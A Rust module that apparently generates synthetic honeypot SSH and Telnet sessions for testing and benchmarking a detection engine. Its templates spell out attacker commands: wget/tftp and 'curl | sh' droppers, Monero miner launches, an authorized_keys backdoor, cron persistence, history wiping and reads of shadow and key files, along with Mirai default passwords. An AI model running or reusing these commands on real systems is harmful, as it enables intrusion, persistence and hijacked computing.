//! A seeded corpus of SSH and Telnet sessions written from real attacker tradecraft the default
//! catalog covers: Mirai-family busybox loaders, `wget | chmod | run` droppers, Monero miners
//! (with and without cron), the Outlaw `mdrfckr` key, plain authorized_keys backdoors, cron
//! jobs, history wiping, GPU and system reconnaissance, `curl | sh`, and a share of benign or
//! mixed sessions. Addresses, file names, keys, wallets and tokens vary per session, so most
//! lines are unique and a per-line cache cannot hit trivially.
//!
//! Shared by the `classify` benchmark and the engine's agreement tests (`#[path]` include).

use sikker_event::{Auth, AuthMethod, Event, EventData, Protocol};
use uuid::Uuid;

/// Command lines per session (each session also has one login event first).
pub const COMMANDS_PER_SESSION: usize = 20;

/// A small deterministic generator (SplitMix64): the same corpus on every run and machine.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    pub fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len())]
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn chars_of(&mut self, alphabet: &[u8], len: usize) -> String {
        (0..len)
            .map(|_| char::from(alphabet[self.below(alphabet.len())]))
            .collect()
    }

    /// Lower-case letters and digits, as bots name their drops.
    fn token(&mut self, len: usize) -> String {
        self.chars_of(b"abcdefghijklmnopqrstuvwxyz0123456789", len)
    }

    fn upper(&mut self, len: usize) -> String {
        self.chars_of(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ", len)
    }

    /// A public-looking IPv4 address (never contacted: these are strings in events).
    fn ip(&mut self) -> String {
        let first = [
            5, 23, 31, 37, 45, 46, 61, 77, 80, 85, 91, 103, 107, 112, 118, 134, 139, 141, 159, 176,
            178, 185, 193, 194, 195, 209, 212, 217, 218, 222,
        ];
        format!(
            "{}.{}.{}.{}",
            first[self.below(first.len())],
            self.below(256),
            self.below(256),
            1 + self.below(254)
        )
    }

    fn host(&mut self) -> String {
        if self.chance(70) {
            self.ip()
        } else if self.chance(50) {
            format!(
                "{}:{}",
                self.ip(),
                [8080, 8000, 81, 443, 9999][self.below(5)]
            )
        } else {
            let tld = self.pick(&["com", "net", "xyz", "top", "ru", "cc"]);
            format!("{}.{}", self.token(7), tld)
        }
    }

    /// A base64 body of an SSH public key, of realistic length.
    fn key_body(&mut self, len: usize) -> String {
        self.chars_of(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            len,
        )
    }

    /// A Monero address: `4`, then one of 0-9AB, then 93 base58 characters.
    fn wallet(&mut self) -> String {
        format!(
            "4{}{}",
            self.chars_of(b"0123456789AB", 1),
            self.chars_of(
                b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz",
                93
            )
        )
    }
}

/// What a session was generated as (printed beside the engine's verdict in the benchmark).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Scenario {
    MiraiLoader,
    ShellLoader,
    Miner,
    MinerWithCron,
    Outlaw,
    SshKey,
    Cron,
    HistoryWipe,
    Recon,
    GpuRecon,
    PipeToShell,
    Benign,
    Mixed,
}

/// Scenario weights, in percent: mostly malicious traffic, as a honeypot sees it.
const MIX: &[(Scenario, usize)] = &[
    (Scenario::MiraiLoader, 18),
    (Scenario::ShellLoader, 13),
    (Scenario::Miner, 8),
    (Scenario::MinerWithCron, 6),
    (Scenario::Outlaw, 10),
    (Scenario::SshKey, 5),
    (Scenario::Cron, 4),
    (Scenario::HistoryWipe, 4),
    (Scenario::Recon, 14),
    (Scenario::GpuRecon, 5),
    (Scenario::PipeToShell, 4),
    (Scenario::Benign, 6),
    (Scenario::Mixed, 3),
];

/// `count` sessions from `seed`, each with the scenario it was generated as.
pub fn sessions(seed: u64, count: usize) -> Vec<(Scenario, Vec<Event>)> {
    let mut rng = Rng::new(seed);
    (0..count)
        .map(|i| session(&mut rng, Uuid::from_u128(i as u128 + 1)))
        .collect()
}

/// One session: its scenario, a login, then [`COMMANDS_PER_SESSION`] command lines.
pub fn session(rng: &mut Rng, id: Uuid) -> (Scenario, Vec<Event>) {
    let total: usize = MIX.iter().map(|(_, w)| w).sum();
    let mut roll = rng.below(total);
    let scenario = MIX
        .iter()
        .find(|(_, w)| {
            let hit = roll < *w;
            roll = roll.saturating_sub(*w);
            hit
        })
        .map_or(Scenario::Recon, |(s, _)| *s);
    let telnet = match scenario {
        Scenario::MiraiLoader => rng.chance(80),
        Scenario::Recon | Scenario::Mixed => rng.chance(25),
        _ => false,
    };
    let protocol = if telnet {
        Protocol::Telnet
    } else {
        Protocol::Ssh
    };
    let core = core_lines(rng, scenario);
    let lines = interleave(rng, core, scenario);
    let src: std::net::IpAddr = rng.ip().parse().unwrap_or([192, 0, 2, 1].into());
    let event = |data: EventData| Event::new("bench", id, protocol, src, 40000, 22, data);
    let mut events = Vec::with_capacity(1 + lines.len());
    let (user, pass) = credential(rng, telnet);
    events.push(event(EventData::Auth(Auth {
        method: AuthMethod::Password,
        username: user,
        password: Some(pass),
        key_type: None,
        key_fingerprint: None,
        success: true,
    })));
    events.extend(
        lines
            .into_iter()
            .map(|line| event(EventData::Command { line })),
    );
    (scenario, events)
}

fn credential(rng: &mut Rng, telnet: bool) -> (String, String) {
    // Mirai's scanner table for Telnet bots; dictionary words and junk for SSH.
    const IOT: &[(&str, &str)] = &[
        ("root", "xc3511"),
        ("root", "vizxv"),
        ("root", "xmhdipc"),
        ("root", "juantech"),
        ("root", "hi3518"),
        ("admin", "admin"),
        ("support", "support"),
        ("root", "default"),
    ];
    if telnet && rng.chance(70) {
        let (u, p) = IOT[rng.below(IOT.len())];
        return (u.into(), p.into());
    }
    let user = rng.pick(&[
        "root", "root", "admin", "ubuntu", "pi", "oracle", "test", "user",
    ]);
    let pass = match rng.below(4) {
        0 => rng
            .pick(&[
                "123456", "password", "P@ssw0rd", "admin123", "root", "1qaz2wsx",
            ])
            .to_string(),
        1 => format!("{user}{}", rng.below(10_000)),
        _ => {
            let len = 8 + rng.below(6);
            rng.token(len)
        }
    };
    (user.into(), pass)
}

/// The lines that make a scenario what it is.
fn core_lines(rng: &mut Rng, scenario: Scenario) -> Vec<String> {
    let mut v = Vec::new();
    match scenario {
        Scenario::MiraiLoader => {
            let host = rng.ip();
            let len = 4 + rng.below(3);
            let probe = rng.upper(len);
            for esc in ["enable", "system", "shell", "sh"] {
                if rng.chance(80) {
                    v.push(esc.to_string());
                }
            }
            v.push(format!("/bin/busybox {probe}"));
            v.push(format!("cat /proc/mounts; /bin/busybox {probe}"));
            let marker: String = (0..5)
                .map(|_| format!("\\x{:02x}", 0x41 + rng.below(26)))
                .collect();
            v.push(format!("/bin/busybox echo -e '{marker}'"));
            let dir = rng.pick(&["/tmp", "/var/run", "/mnt", "/dev/shm", "/var/tmp"]);
            let name = rng.token(6);
            let arch = rng.pick(&[
                "mips", "mpsl", "arm", "arm5", "arm6", "arm7", "x86", "ppc", "m68k", "sh4",
            ]);
            match rng.below(3) {
                0 => v.push(format!(
                    "cd {dir} || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/{name}.sh; chmod 777 {name}.sh; sh {name}.sh; tftp {host} -c get t{name}.sh; chmod 777 t{name}.sh; sh t{name}.sh; rm -rf *"
                )),
                1 => {
                    v.push(format!("cd {dir}"));
                    v.push(format!(
                        "/bin/busybox wget http://{host}/bins/{name}.{arch} -O - > .{name}; /bin/busybox chmod 777 .{name}"
                    ));
                    v.push(format!("./.{name} telnet.{arch}.wget"));
                }
                _ => {
                    v.push(format!("cd {dir}; /bin/busybox tftp -g -r {name}.{arch} {host}; /bin/busybox chmod 777 {name}.{arch}; ./{name}.{arch} tftp.{arch}"));
                }
            }
            if rng.chance(60) {
                v.push(format!("rm -rf {dir}/.{name} {dir}/{name}.sh"));
            }
        }
        Scenario::ShellLoader => {
            let host = rng.host();
            let name = rng.token(5);
            match rng.below(4) {
                0 => v.push(format!(
                    "cd /tmp; wget http://{host}/{name}.sh; chmod +x {name}.sh; ./{name}.sh"
                )),
                1 => v.push(format!(
                    "cd /var/tmp && curl -O http://{host}/{name} && chmod 777 {name} && ./{name}"
                )),
                2 => {
                    v.push(format!("wget -q http://{host}/{name} -O /tmp/.{name}"));
                    v.push(format!("chmod +x /tmp/.{name}"));
                    v.push(format!("/tmp/.{name} -s {}", rng.below(65536)));
                }
                _ => {
                    v.push(format!(
                        "cd /dev/shm; curl -s -k -o {name}.sh https://{host}/x/{name}.sh"
                    ));
                    v.push(format!("sh {name}.sh {}", rng.token(8)));
                    v.push(format!("nohup ./{name} > /dev/null 2>&1 &"));
                }
            }
            if rng.chance(50) {
                v.push(format!("rm -f {name}.sh"));
            }
        }
        Scenario::Miner | Scenario::MinerWithCron => {
            let host = rng.ip();
            let dir = format!(".{}", rng.token(6));
            let version = format!("6.{}.{}", 10 + rng.below(12), rng.below(4));
            let wallet = rng.wallet();
            let pool = rng.pick(&[
                "pool.supportxmr.com:443",
                "gulf.moneroocean.stream:10128",
                "auto.c3pool.org:19999",
                "xmr-eu1.nanopool.org:14433",
            ]);
            v.push(format!("mkdir -p /tmp/{dir}; cd /tmp/{dir}"));
            match rng.below(3) {
                0 => {
                    v.push(format!(
                        "wget -q http://{host}/xmrig-{version}-linux-static-x64.tar.gz"
                    ));
                    v.push(format!(
                        "tar xzf xmrig-{version}-linux-static-x64.tar.gz && cd xmrig-{version}"
                    ));
                    v.push(format!(
                        "chmod +x xmrig; nohup ./xmrig -o {pool} -u {wallet} -k --tls --donate-level 1 -B >/dev/null 2>&1 &"
                    ));
                }
                1 => {
                    v.push(format!(
                        "curl -s http://{host}/kinsing -o /tmp/{dir}/kdevtmpfsi"
                    ));
                    v.push(format!("chmod 777 /tmp/{dir}/kdevtmpfsi"));
                    v.push(format!("/tmp/{dir}/kdevtmpfsi &"));
                }
                _ => {
                    v.push(format!(
                        "curl -fsSL http://{host}/{}.tar -o m.tar; tar xf m.tar",
                        rng.token(4)
                    ));
                    v.push(format!(
                        "./{} --url=stratum+tcp://{pool} --user={wallet} --pass=x --threads={}",
                        rng.token(6),
                        1 + rng.below(8)
                    ));
                }
            }
            if rng.chance(50) {
                v.push("pkill -9 xmrig; pkill -9 kdevtmpfsi; pkill -9 kinsing".to_string());
            }
            if scenario == Scenario::MinerWithCron {
                v.push(format!(
                    "(crontab -l 2>/dev/null; echo \"*/{} * * * * /tmp/{dir}/run >/dev/null 2>&1\") | crontab -",
                    5 + rng.below(25)
                ));
                if rng.chance(50) {
                    v.push("chattr +i /var/spool/cron/root".to_string());
                }
                if rng.chance(50) {
                    v.push("history -c; unset HISTFILE".to_string());
                }
            }
        }
        Scenario::Outlaw => {
            let key = rng.key_body(372);
            v.push("cd ~; chattr -ia .ssh; lockr -ia .ssh".to_string());
            v.push(format!("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{key}== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"));
            v.push(format!("echo \"root:{}\"|chpasswd|bash", rng.key_body(12)));
            if rng.chance(70) {
                v.push("rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;".to_string());
            }
        }
        Scenario::SshKey => {
            let kind = rng.pick(&[
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI",
            ]);
            let body = rng.key_body(if kind.starts_with("ssh-rsa") { 340 } else { 43 });
            let comment = format!("{}@{}", rng.pick(&["root", "admin", "user"]), rng.token(6));
            v.push("mkdir -p ~/.ssh".to_string());
            v.push(format!(
                "echo \"{kind}{body} {comment}\" >> ~/.ssh/authorized_keys"
            ));
            v.push("chmod 600 ~/.ssh/authorized_keys; chmod 700 ~/.ssh".to_string());
        }
        Scenario::Cron => {
            let host = rng.host();
            let name = rng.token(6);
            v.push("crontab -l".to_string());
            match rng.below(3) {
                0 => v.push(format!(
                    "echo \"*/{} * * * * curl -fsSL http://{host}/{name}.sh -o /tmp/{name}.sh\" >> /var/spool/cron/root",
                    2 + rng.below(20)
                )),
                1 => v.push(format!(
                    "(crontab -l ; echo \"@reboot /usr/bin/.{name}\") | crontab -"
                )),
                _ => v.push(format!(
                    "echo \"0 * * * * root /usr/lib/.{name}/update\" > /etc/cron.d/{name}"
                )),
            }
        }
        Scenario::HistoryWipe => {
            v.push(
                rng.pick(&["history -c", "unset HISTFILE", "export HISTFILE=/dev/null"])
                    .to_string(),
            );
            v.push(format!(
                "rm -rf ~/.bash_history; history -c; echo {}",
                rng.token(6)
            ));
        }
        Scenario::Recon | Scenario::Benign => {}
        Scenario::GpuRecon => {
            v.push("nvidia-smi -q | grep \"Product Name\"".to_string());
            v.push(
                rng.pick(&[
                    "lspci | grep -i vga",
                    "lspci | grep -i nvidia",
                    "lspci -v | grep -i '3d controller'",
                ])
                .to_string(),
            );
            if rng.chance(40) {
                v.push("cat /proc/driver/nvidia/gpus/*/information".to_string());
            }
        }
        Scenario::PipeToShell => {
            let host = rng.host();
            let name = rng.token(4);
            v.push(match rng.below(3) {
                0 => format!("curl -fsSL http://{host}/{name}.sh | sh"),
                1 => format!("wget -qO- http://{host}/{name} | bash -s {}", rng.token(5)),
                _ => format!("cd /tmp; curl -s {host}/{name}.sh | sudo bash"),
            });
        }
        Scenario::Mixed => {
            // A loader that also reads credentials: no behavior names both, the editors' queue.
            let host = rng.ip();
            let name = rng.token(5);
            v.push(format!(
                "cd /tmp; wget http://{host}/{name}; chmod +x {name}; ./{name}"
            ));
            v.push(
                rng.pick(&["cat /etc/shadow", "cat /etc/passwd", "find / -name id_rsa"])
                    .to_string(),
            );
        }
    }
    v
}

/// Places the core lines in order among reconnaissance and shell noise (benign sessions get
/// administrator commands no primitive looks at) up to [`COMMANDS_PER_SESSION`] lines.
fn interleave(rng: &mut Rng, core: Vec<String>, scenario: Scenario) -> Vec<String> {
    let mut lines: Vec<String> = Vec::with_capacity(COMMANDS_PER_SESSION);
    let fillers = COMMANDS_PER_SESSION.saturating_sub(core.len());
    // Core lines keep their order; each filler slot goes before, between or after them.
    let mut slots: Vec<usize> = (0..fillers).map(|_| rng.below(core.len() + 1)).collect();
    slots.sort_unstable();
    let mut slot = slots.into_iter().peekable();
    for (i, line) in core.into_iter().enumerate() {
        while slot.next_if(|&s| s <= i).is_some() {
            lines.push(filler(rng, scenario));
        }
        lines.push(line);
    }
    for _ in slot {
        lines.push(filler(rng, scenario));
    }
    lines.truncate(COMMANDS_PER_SESSION);
    lines
}

fn filler(rng: &mut Rng, scenario: Scenario) -> String {
    if scenario == Scenario::Benign && rng.chance(70) {
        return benign(rng);
    }
    let t = rng.token(6);
    let n = 1 + rng.below(20);
    // About a third are the constant probes every bot sends; the rest carry a varying part.
    match rng.below(32) {
        0 => rng
            .pick(&["uname -a", "uname -m", "uname -s -v -n -r -m", "uname"])
            .to_string(),
        1 => "cat /proc/cpuinfo | grep name | wc -l".to_string(),
        2 => "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"
            .to_string(),
        3 => "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'".to_string(),
        4 => rng
            .pick(&["lscpu | grep Model", "lscpu", "nproc", "getconf LONG_BIT"])
            .to_string(),
        5 => rng
            .pick(&["w", "whoami", "id", "uptime", "top", "hostname", "pwd"])
            .to_string(),
        6 => "ls -lh $(which ls)".to_string(),
        7 => "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'".to_string(),
        8 => rng
            .pick(&[
                "crontab -l",
                "cat /etc/os-release",
                "cat /etc/issue",
                "cat /proc/meminfo | grep MemTotal",
            ])
            .to_string(),
        9 => rng
            .pick(&[
                "ifconfig",
                "ip addr show eth0",
                "ip route",
                "netstat -tulpn",
                "ss -tan",
            ])
            .to_string(),
        10 => "exit".to_string(),
        11 => format!("ls -la /tmp/.{t}"),
        12 | 13 => format!("echo {t}"),
        14 => format!("cd /tmp/.{t}"),
        15 => format!("export PATH=$PATH:/tmp/.{t}"),
        16 => format!("ps aux | grep {t} | grep -v grep"),
        17 => format!("last -n {n} | grep -v {t}"),
        18 => format!("echo \"{t}\" && uname -r"),
        19 => format!("cd ~ && ls -a /home/{t}"),
        20 => format!("echo {} | md5sum", rng.token(10)),
        21 => format!("uptime; w; ps -ef | grep {t}"),
        22 => format!("sleep {n}; echo {t}"),
        23 => format!(
            "which {} || echo {t}",
            rng.pick(&["wget", "curl", "tftp", "python3", "perl"])
        ),
        24 => format!("cat /proc/cpuinfo | grep name | head -n {n}"),
        25 => format!("top -bn1 | head -n {n}"),
        26 => format!("uname -a; echo {t}"),
        27 => format!("df -h /var/lib/{t}"),
        28 => format!("ls /dev/shm/{t}; ls -la ~/.{t}"),
        29 => format!("free -m; echo {t}; nproc"),
        30 => format!("cat /etc/hostname; echo {t}"),
        _ => format!("ls -la /var/tmp/{t} /dev/shm/{t}"),
    }
}

/// What an administrator types: no primitive looks at it.
fn benign(rng: &mut Rng) -> String {
    let t = rng.token(5);
    match rng.below(10) {
        0 => "sudo apt-get update -y".to_string(),
        1 => format!("vim /etc/nginx/sites-available/{t}.conf"),
        2 => rng
            .pick(&[
                "systemctl status nginx",
                "systemctl restart sshd",
                "journalctl -u nginx -n 50",
            ])
            .to_string(),
        3 => format!("tail -n {} /var/log/syslog", 10 + rng.below(200)),
        4 => format!("git -C /srv/{t} pull --ff-only"),
        5 => format!("python3 manage.py migrate --settings={t}.settings"),
        6 => format!("du -sh /var/lib/{t}"),
        7 => format!("tar czf /backup/{t}.tgz /etc"),
        8 => format!("grep -r {t} /etc/nginx"),
        _ => format!("less /var/log/{t}.log"),
    }
}
